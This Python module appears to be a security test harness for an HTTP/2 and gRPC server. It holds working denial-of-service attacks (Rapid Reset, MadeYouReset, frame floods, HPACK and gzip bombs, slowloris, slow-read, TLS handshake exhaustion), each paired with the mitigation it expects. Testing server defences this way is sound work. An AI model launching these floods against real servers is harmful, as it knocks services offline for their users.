"""What attackers do, one function for each row of the table in docs/security.md.

An attack gets an open connection and sends until the server ends it; then the attacker comes back.
"""

import asyncio
import collections
import dataclasses
import itertools
import pathlib
import random
import socket
import ssl
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable

import hpack

sys.path.append(str(pathlib.Path(__file__).resolve().parents[2] / "Tests" / "Conformance"))

from http2.peer import (  # noqa: E402
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
    PREFACE, PRIORITY, RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, call, frame, message, request, reset, settings,
    window_update)

CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
         "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
         "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]

# The attackers' streams: odd, and as many as there are.
STREAMS = range(1, 1 << 31, 2)


class Connection:
    """An attacker's connection, and how it was ended."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.end = ""
        # Room for bodies that the server has given.
        self.granted = 0
        self.resets: collections.Counter[str] = collections.Counter()
        self.reading: asyncio.Task | None = None

    @property
    def is_open(self) -> bool:
        return not self.end

    async def send(self, *pieces: bytes) -> None:
        """Sends, and waits while the socket is full."""
        if self.end:
            raise ConnectionError(self.end)
        self.writer.write(b"".join(pieces))
        await self.writer.drain()
        # Lets the others go on even if the socket takes everything.
        await asyncio.sleep(0)

    async def greet(self, *pairs: tuple[int, int]) -> None:
        await self.send(PREFACE, settings(*pairs), frame(SETTINGS, ACK))

    def read_frames(self) -> None:
        """Begins to watch for the end."""
        self.reading = asyncio.create_task(self._read())

    async def _read(self) -> None:
        said = ""
        try:
            while True:
                head = await self.reader.readexactly(9)
                if head.startswith(b"HTTP/1.1 "):
                    said = "HTTP " + (head + await self.reader.read(65_536)).split()[1].decode()
                    break
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == GOAWAY:
                    code = struct.unpack(">I", payload[4:8])[0]
                    if code == 0:
                        continue
                    said = f"{CODES[code]} {payload[8:].decode()}".strip()
                elif head[3] == WINDOW_UPDATE and head[5:] == bytes(4):
                    self.granted += struct.unpack(">I", payload)[0]
                elif head[3] == RST_STREAM:
                    self.resets[CODES[struct.unpack(">I", payload)[0]]] += 1
        except asyncio.IncompleteReadError:
            said = said or "closed"
        except OSError:
            said = said or "reset"
        self.end = said

    async def ended(self) -> None:
        """Waits for the server to end it."""
        if self.reading:
            await asyncio.shield(self.reading)

    def close(self) -> None:
        if self.reading:
            self.reading.cancel()
        self.writer.transport.abort()


def plain(fields) -> bytes:
    """A block that needs nothing from the tables."""
    block = b""
    for name, value in fields:
        name, value = name.encode(), value.encode()
        block += b"\0" + hpack.hpack.encode_integer(len(name), 7) + name
        block += hpack.hpack.encode_integer(len(value), 7) + value
    return bytes(block)


ECHO, HOLD, POUR = (plain(call(name)) for name in ("Echo", "Hold", "Pour"))


def headers(stream: int, block: bytes, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block)


# Floods

async def rapid_reset(connection: Connection) -> None:
    await connection.greet()
    for first in itertools.count(1, 200):
        await connection.send(*[
            headers(stream, ECHO) + reset(stream) for stream in range(first, first + 200, 2)])


async def rapid_reset_running(connection: Connection) -> None:
    """Lets each handler start before it resets the stream."""
    await connection.greet()
    for first in itertools.count(1, 100):
        streams = range(first, first + 100, 2)
        await connection.send(*[
            headers(s, HOLD) + frame(DATA, END_STREAM, s, message()) for s in streams])
        await asyncio.sleep(0.005)
        await connection.send(*map(reset, streams))


async def made_you_reset(connection: Connection) -> None:
    """Has the server reset streams that count no more while their handlers run."""
    await connection.greet()
    for stream in STREAMS:
        await connection.send(
            headers(stream, HOLD), frame(DATA, END_STREAM, stream, message()),
            window_update(stream, 0x7FFF_FFFF))


async def stream_flood(connection: Connection) -> None:
    """Opens streams that stay, without end."""
    await connection.greet()
    for first in itertools.count(1, 200):
        await connection.send(*[headers(stream, ECHO) for stream in range(first, first + 200, 2)])


async def ping_flood(connection: Connection) -> None:
    await connection.greet()
    while True:
        await connection.send(frame(PING, payload=b"flooding") * 1_000)


async def settings_flood(connection: Connection) -> None:
    await connection.greet()
    for size in itertools.count():
        await connection.send(settings((INITIAL_WINDOW_SIZE, 65_535 + size % 2)) * 1_000)


async def priority_flood(connection: Connection) -> None:
    await connection.greet()
    while True:
        await connection.send(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10") * 1_000)


async def window_update_flood(connection: Connection) -> None:
    await connection.greet()
    while True:
        await connection.send(window_update(0, 1) * 1_000)


async def empty_data_flood(connection: Connection) -> None:
    await connection.greet()
    await connection.send(headers(1, ECHO))
    while True:
        await connection.send(frame(DATA, 0, 1) * 1_000)


async def padding_flood(connection: Connection) -> None:
    await connection.greet()
    await connection.send(headers(1, ECHO))
    while True:
        await connection.send(frame(DATA, 0x8, 1, b"\xff" + bytes(255)) * 100)


async def unknown_frame_flood(connection: Connection) -> None:
    await connection.greet()
    while True:
        await connection.send(frame(UNKNOWN, 0, 0, b"") * 1_000)


# Fields

async def continuation_flood(connection: Connection) -> None:
    await connection.greet()
    await connection.send(headers(1, ECHO, 0))
    while True:
        await connection.send(frame(CONTINUATION, 0, 1, b"") * 100)


async def hpack_bomb(connection: Connection) -> None:
    """An entry of 4 KiB, and then thousands of one-byte references to it."""
    await connection.greet()
    entry = b"\x40\x01b" + bytes(hpack.hpack.encode_integer(4_000, 7)) + b"b" * 4_000
    await connection.send(headers(1, plain(request()) + entry, END_HEADERS | END_STREAM))
    for stream in STREAMS[1:]:
        await connection.send(
            headers(stream, plain(request()) + b"\xbe" * 15_000, END_HEADERS | END_STREAM))


async def tiny_references(connection: Connection) -> None:
    """Thousands of fields of one byte each from the static table."""
    await connection.greet()
    for stream in STREAMS:
        await connection.send(
            headers(stream, plain(request()) + b"\x90" * 16_000, END_HEADERS | END_STREAM))


async def table_thrash(connection: Connection) -> None:
    """Empties the table and fills it again in every block."""
    await connection.greet()
    entries = b"".join(b"\x40\x02%02x\0" % number for number in range(100))
    for stream in STREAMS:
        block = b"\x20\x3f\xe1\x1f" * 2_000 + plain(request()) + entries
        await connection.send(headers(stream, block, END_HEADERS | END_STREAM))


# Slowness

async def zero_window(connection: Connection) -> None:
    """Asks for much and gives no room for it."""
    await connection.greet((INITIAL_WINDOW_SIZE, 0))
    asked = message(bytes(100))
    await connection.send(*[
        headers(stream, POUR) + frame(DATA, END_STREAM, stream, asked)
        for stream in range(1, 200, 2)])
    await connection.ended()


async def tiny_window(connection: Connection) -> None:
    """Gives room byte by byte."""
    await connection.greet((INITIAL_WINDOW_SIZE, 0))
    asked = message(bytes(100))
    await connection.send(*[
        headers(stream, POUR) + frame(DATA, END_STREAM, stream, asked)
        for stream in range(1, 200, 2)])
    while connection.is_open:
        await connection.send(*[window_update(stream, 1) for stream in range(1, 200, 2)])
        await asyncio.sleep(0.02)


async def slow_read(connection: Connection) -> None:
    """Asks for much, gives room for it and does not read."""
    connection.writer.write(PREFACE + settings((INITIAL_WINDOW_SIZE, 1 << 30)) + frame(
        SETTINGS, ACK) + window_update(0, 1 << 30))
    asked = message(bytes(1_000))
    await connection.send(*[
        headers(stream, POUR) + frame(DATA, END_STREAM, stream, asked)
        for stream in range(1, 200, 2)])
    # Nothing is read, so that only writing can tell of the end.
    while True:
        await asyncio.sleep(0.2)
        try:
            await connection.send(frame(PING, payload=b"anybody?"))
        except OSError:
            connection.end = "closed"
            return


SLOWLORIS = [
    # Where the connection stops, and what it says up to there.
    ("before the first byte", b""),
    ("in the preface", PREFACE[:10]),
    ("before SETTINGS", PREFACE),
    ("before the answer to SETTINGS", PREFACE + settings()),
    ("in a block", PREFACE + settings() + frame(SETTINGS, ACK) + headers(1, ECHO, 0)),
    ("in a request line", b"GET / HT"),
    ("in a field", b"GET / HTTP/1.1\r\nHost: loc"),
    ("in a body", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nabc"),
    ("in a chunk", b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3e8\r\nabc"),
]


async def slowloris(connection: Connection) -> None:
    """Begins something and goes on byte by byte, too slowly to end."""
    where, start = random.choice(SLOWLORIS)
    await connection.send(start)
    while connection.is_open:
        await asyncio.sleep(0.3)
        if where in ("in a field", "in a request line", "in a body", "in a chunk"):
            await connection.send(b"x")


# Bodies

async def length_lies(connection: Connection) -> None:
    """Announces long messages and sends a little of each."""
    await connection.greet()
    announced = b"\0" + struct.pack(">I", 60_000)
    streams = range(1, 200, 2)
    await connection.send(*[
        headers(stream, ECHO) + frame(DATA, 0, stream, announced) for stream in streams])
    # Half of what the connection's first window lets pass, then nothing more.
    await connection.send(*[frame(DATA, 0, stream, bytes(300)) for stream in streams])
    while connection.is_open and not connection.resets:
        await asyncio.sleep(0.05)


async def unfinished_messages(connection: Connection) -> None:
    """Sends messages of 4 MiB but for their last bytes, on all streams at once."""
    await connection.greet()
    announced = b"\0" + struct.pack(">I", 4 << 20)
    streams = range(1, 200, 2)
    await connection.send(*[
        headers(stream, ECHO) + frame(DATA, 0, stream, announced) for stream in streams])
    sent = len(streams) * len(announced)
    for _ in range(255):
        for stream in streams:
            while sent + 16_384 > 65_535 + connection.granted:
                await asyncio.sleep(0.005)
                if not connection.is_open:
                    return
            await connection.send(frame(DATA, 0, stream, bytes(16_384)))
            sent += 16_384
    while connection.is_open and not connection.resets:
        await asyncio.sleep(0.05)


GZIP_CALL = plain(call("Echo") + [("grpc-encoding", "gzip")])


def bomb() -> bytes:
    """64 MiB of zeros in gzip."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(bytes(64 << 20)) + packer.flush()
    return b"\x01" + struct.pack(">I", len(packed)) + packed


BOMB = bomb()


async def compression_bomb(connection: Connection) -> None:
    """Sends 64 KiB that stand for 64 MiB, again and again."""
    await connection.greet()
    for stream in STREAMS:
        pieces = [BOMB[at:at + 16_384] for at in range(0, len(BOMB), 16_384)]
        await connection.send(
            headers(stream, GZIP_CALL),
            *[frame(DATA, 0, stream, piece) for piece in pieces[:-1]],
            frame(DATA, END_STREAM, stream, pieces[-1]))
        await asyncio.sleep(0.01)


# HTTP/1.1

async def _drop_answers(connection: Connection) -> None:
    try:
        while await connection.reader.read(65_536):
            pass
        connection.end = "closed"
    except OSError:
        connection.end = "reset"


async def pipelining(connection: Connection) -> None:
    """Asks for something short again and again without waiting for answers, but takes them."""
    connection.reading = asyncio.create_task(_drop_answers(connection))
    while True:
        await connection.send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 200)


# A unary call through the door for Connect, whose body comes in chunks.
CHUNKED = (b"POST /klinke.http2.v1.Target/Echo HTTP/1.1\r\nHost: a\r\n"
           b"Content-Type: application/proto\r\nTransfer-Encoding: chunked\r\n\r\n")


async def tiny_chunks(connection: Connection) -> None:
    """Sends a body byte by byte, each in a chunk of its own."""
    await connection.send(CHUNKED)
    while True:
        await connection.send(b"1\r\nx\r\n" * 1_000)


async def chunk_extensions(connection: Connection) -> None:
    """Sends 200 bytes that mean nothing for each byte of a body."""
    await connection.send(CHUNKED)
    while True:
        await connection.send((b"1;" + b"x" * 200 + b"\r\nx\r\n") * 50)


# TLS

def client_hello() -> bytes:
    """The first bytes of a client, which any number of connections can begin with."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    sent = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


HELLO = client_hello()


async def handshakes(connection: Connection) -> None:
    """Has the server sign, and leaves."""
    await connection.send(HELLO)
    if await connection.reader.read(1) == b"\x16":
        connection.end = "left by the attacker"


RECORDED = (PREFACE + settings() + frame(SETTINGS, ACK) + headers(1, ECHO)
            + frame(DATA, END_STREAM, 1, message(b"recorded")) + frame(PING, payload=b"recorded")
            + headers(3, ECHO) + reset(3) + frame(GOAWAY, payload=bytes(8)))
_cuts = itertools.cycle(range(len(RECORDED) + 1))


async def cut_sockets(connection: Connection) -> None:
    """Closes or resets after each byte of a session, in turn."""
    cut = next(_cuts)
    await connection.send(RECORDED[:cut])
    if cut % 2:
        connection.writer.transport.get_extra_info("socket").setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.end = "reset by the attacker"
    else:
        connection.writer.write_eof()
        await connection.ended()


@dataclasses.dataclass
class Attack:
    """A row of the table."""

    name: str
    play: Callable[[Connection], Awaitable[None]]
    # Part of what must be among the ends that attackers met; nothing where they ask for no more than
    # they may, and share what they get.
    ended: str
    # A counter that must have gone up.
    cause: str = ""
    reads: bool = True
    # The server's port for TLS, though the attacker may not speak it.
    is_tls: bool = False

    def __post_init__(self) -> None:
        if self.ended.startswith("ENHANCE_YOUR_CALM "):
            self.cause = self.ended.split()[1]


ATTACKS = [
    Attack("rapid reset", rapid_reset, "ENHANCE_YOUR_CALM reset_flood"),
    Attack("rapid reset of running calls", rapid_reset_running, "ENHANCE_YOUR_CALM reset_flood"),
    Attack("MadeYouReset", made_you_reset, "ENHANCE_YOUR_CALM provoked_reset_flood"),
    Attack("stream flood", stream_flood, "ENHANCE_YOUR_CALM refusal_flood"),
    Attack("PING flood", ping_flood, "ENHANCE_YOUR_CALM ping_flood"),
    Attack("SETTINGS flood", settings_flood, "ENHANCE_YOUR_CALM settings_flood"),
    Attack("PRIORITY flood", priority_flood, "ENHANCE_YOUR_CALM priority_flood"),
    Attack("WINDOW_UPDATE flood", window_update_flood, "ENHANCE_YOUR_CALM window_update_flood"),
    Attack("empty DATA flood", empty_data_flood, "ENHANCE_YOUR_CALM empty_frame_flood"),
    Attack("DATA of padding flood", padding_flood, "ENHANCE_YOUR_CALM empty_frame_flood"),
    Attack("unknown frame flood", unknown_frame_flood, "ENHANCE_YOUR_CALM stray_frame_flood"),
    Attack("CONTINUATION flood", continuation_flood, "ENHANCE_YOUR_CALM header_block"),
    Attack("HPACK bomb", hpack_bomb, "ENHANCE_YOUR_CALM header_bomb"),
    Attack("header bomb by tiny references", tiny_references, "ENHANCE_YOUR_CALM header_bomb"),
    Attack("HPACK table thrash", table_thrash, "ENHANCE_YOUR_CALM table_thrash"),
    Attack("zero window", zero_window, "ENHANCE_YOUR_CALM stalled"),
    Attack("window of single bytes", tiny_window, "ENHANCE_YOUR_CALM window_update_flood"),
    Attack("slow read", slow_read, "closed", "send_timeout", reads=False),
    Attack("slowloris", slowloris, "closed"),
    Attack("length-prefix lies", length_lies, "streams reset with CANCEL", "body_timeout"),
    Attack("unfinished messages of 4 MiB", unfinished_messages, "streams reset with"),
    Attack("compression bomb", compression_bomb, "ENHANCE_YOUR_CALM compression_bomb"),
    Attack("HTTP/1.1 pipelining", pipelining, "", "failed_requests", reads=False),
    Attack("chunks of one byte", tiny_chunks, ""),
    Attack("chunk extensions", chunk_extensions, "HTTP 400", "http1_400"),
    Attack("TLS handshakes", handshakes, "left by the attacker", reads=False, is_tls=True),
    Attack("sockets cut at every byte", cut_sockets, "closed"),
]


async def attack(
    one: Attack, address: tuple[str, int], attackers: int, seconds: float
) -> collections.Counter[str]:
    """Lets so many attack for so long and returns how their connections were ended."""
    ends: collections.Counter[str] = collections.Counter()
    stop = asyncio.get_running_loop().time() + seconds

    async def be_attacker() -> None:
        while asyncio.get_running_loop().time() < stop:
            try:
                reader, writer = await asyncio.open_connection(*address, limit=4_096)
            except OSError:
                ends["refused"] += 1
                await asyncio.sleep(0.05)
                continue
            connection = Connection(reader, writer)
            if one.reads:
                connection.read_frames()
            try:
                left = stop - asyncio.get_running_loop().time()
                await asyncio.wait_for(one.play(connection), max(0.01, left))
            except (TimeoutError, OSError):
                pass
            # The GOAWAY may still be on its way.
            if not connection.resets:
                try:
                    await asyncio.wait_for(connection.ended(), 1)
                except (TimeoutError, OSError):
                    pass
            resets = connection.resets.most_common(1)
            ends[connection.end or (f"streams reset with {resets[0][0]}" if resets else "none")] += 1
            connection.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*[be_attacker() for _ in range(attackers)])
    return ends
